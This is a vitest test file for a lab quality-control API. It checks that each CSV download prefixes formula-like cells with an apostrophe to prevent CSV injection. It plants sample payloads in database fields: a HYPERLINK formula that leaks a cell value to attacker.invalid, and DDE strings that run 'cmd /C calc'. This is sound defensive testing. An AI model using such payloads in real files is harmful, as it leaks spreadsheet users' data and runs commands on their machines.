import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import request from 'supertest';
import { eq } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { analytes, auditEvents, controlLots, instrumentModels, qcValues, uploads } from '@plumbline/db';
import { createTestApp, type TestApp } from '../../testing/test-app.ts';
import {
  seedWorkspaceNetwork,
  type WorkspaceNetwork,
} from '../report-drilldown/testing/workspace-network.ts';

// Every CSV the API writes goes through csvCell (@plumbline/contracts). OWASP "CSV Injection": a cell
// beginning with = + - @ tab or CR is read as a formula by spreadsheets; the writer prepends an
// apostrophe. Here formula-like text is planted where users type it (comments, lot numbers, names,
// file names, run ids, audit labels) and every CSV route must give it back with the apostrophe.

const HYPERLINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")';
const PLUS = '+cmd|/C calc!A0';
const AT = '@SUM(1+1)*cmd|/C calc!A0';
const MINUS = '-2+3+cmd|/C calc!A0';
const PERIOD = '2026-03';

let t: TestApp;
let net: WorkspaceNetwork;
let coordinator: Awaited<ReturnType<TestApp['makeUser']>>;

beforeAll(async () => {
  t = await createTestApp('csvinjection');
  net = await seedWorkspaceNetwork(t);
  coordinator = await t.makeUser('coordinator', null);
  const { catalogue, labs } = net;
  // Text as a coordinator or a lab could enter it, stored directly (whatever the forms accept today).
  await t.db.update(controlLots).set({ lotNumber: AT }).where(eq(controlLots.id, catalogue.lot.id));
  await t.db
    .update(analytes)
    .set({ name: HYPERLINK })
    .where(eq(analytes.id, catalogue.analytes.creatinine.id));
  await t.db
    .update(instrumentModels)
    .set({ name: MINUS })
    .where(eq(instrumentModels.id, catalogue.models.x1.id));
  await t.db.update(qcValues).set({ run: PLUS }).where(eq(qcValues.labId, labs.A.id));
  await t.db.insert(uploads).values({
    labId: labs.A.id,
    uploadedBy: labs.A.analyst.id,
    kind: 'qc-summary',
    filename: `${HYPERLINK}.csv`,
    size: 10,
    sha256: 'b'.repeat(64),
    storageKey: 'test/none',
    status: 'failed',
    failureMessage: PLUS,
  });
  await t.db.insert(auditEvents).values({ actorLabel: AT, labId: labs.A.id, kind: MINUS, entity: PLUS });
  const comment = await request(t.app)
    .post(`/api/labs/${labs.A.id}/comments`)
    .set('Authorization', labs.A.analyst.auth)
    .send({
      period: PERIOD,
      procedureId: labs.A.glucose,
      controlLotId: catalogue.lot.id,
      level: 1,
      body: HYPERLINK,
    });
  expect(comment.status).toBe(201);
});
afterAll(async () => t?.close());

async function csvOf(path: string, auth: string): Promise<Record<string, string>[]> {
  const res = await request(t.app).get(`/api${path}`).set('Authorization', auth);
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  return parse(res.text, { columns: true });
}

/** No cell of the file starts with a formula character unless it is a plain number. */
function expectNoFormula(records: Record<string, string>[]) {
  for (const record of records) {
    for (const cell of Object.values(record)) {
      if (/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(cell)) continue;
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  }
}

describe('formula-like text in every CSV download', () => {
  it('when the peer report is downloaded, then the planted lot number and analyte name are neutralised and negative figures stay numbers', async () => {
    // Lab B reads below its peers, so its SDI and bias are negative.
    const records = await csvOf(
      `/labs/${net.labs.B.id}/peer-report.csv?period=${PERIOD}`,
      net.labs.B.analyst.auth,
    );
    expect(records.length).toBe(4);
    expect(records.every((r) => r.control_lot === `'${AT}`)).toBe(true);
    expect(records.filter((r) => r.analyte === `'${HYPERLINK}`)).toHaveLength(2);
    const negative = records
      .flatMap((r) => [r.sdi, r.bias_pct, r.cumulative_sdi])
      .filter((c) => c.startsWith('-'));
    expect(negative.length).toBeGreaterThan(0);
    for (const cell of negative) expect(Number.isFinite(Number(cell))).toBe(true);
    expectNoFormula(records);
  });

  it('when the comments are downloaded, then a planted HYPERLINK comment is neutralised', async () => {
    const records = await csvOf(
      `/labs/${net.labs.A.id}/comments.csv?period=${PERIOD}`,
      net.labs.A.analyst.auth,
    );
    expect(records.map((r) => r.comment)).toEqual([`'${HYPERLINK}`]);
    expectNoFormula(records);
  });

  it('when the test menu is downloaded, then a planted instrument model name is neutralised', async () => {
    const records = await csvOf(`/labs/${net.labs.A.id}/test-menu.csv`, net.labs.A.analyst.auth);
    expect(records.map((r) => r.instrument_model)).toEqual([`'${MINUS}`, `'${MINUS}`]);
    expectNoFormula(records);
  });

  it('when the uploads are downloaded, then a planted file name and failure message are neutralised', async () => {
    const records = await csvOf(`/labs/${net.labs.A.id}/uploads.csv`, net.labs.A.analyst.auth);
    const planted = records.find((r) => r.filename.includes('HYPERLINK'))!;
    expect(planted.filename).toBe(`'${HYPERLINK}.csv`);
    expect(planted.failure).toBe(`'${PLUS}`);
    expectNoFormula(records);
  });

  it('when the audit log is downloaded, then a planted actor label, kind and entity are neutralised', async () => {
    const records = await csvOf('/audit-events.csv', coordinator.auth);
    const planted = records.find((r) => r.actor_label === `'${AT}`)!;
    expect(planted).toMatchObject({ kind: `'${MINUS}`, entity: `'${PLUS}` });
    expectNoFormula(records);
  });

  it('when the trend and Levey-Jennings tables of a row are downloaded, then the lot number and run ids are neutralised', async () => {
    const base = `/labs/${net.labs.A.id}/report-rows/${net.labs.A.glucose}/${net.catalogue.lot.id}/1`;
    const trend = await csvOf(`${base}/trend.csv?period=${PERIOD}`, net.labs.A.analyst.auth);
    expect(trend.length).toBe(3);
    expect(trend.every((r) => r.control_lot === `'${AT}`)).toBe(true);
    expectNoFormula(trend);

    const lj = await csvOf(`${base}/levey-jennings.csv?period=${PERIOD}&target=lab`, net.labs.A.analyst.auth);
    expect(lj.length).toBe(20);
    expect(lj.every((r) => r.run === `'${PLUS}`)).toBe(true);
    // z-scores below the mean are negative numbers, written as such.
    expect(lj.some((r) => r.z.startsWith('-') && Number.isFinite(Number(r.z)))).toBe(true);
    expectNoFormula(lj);
  });
});
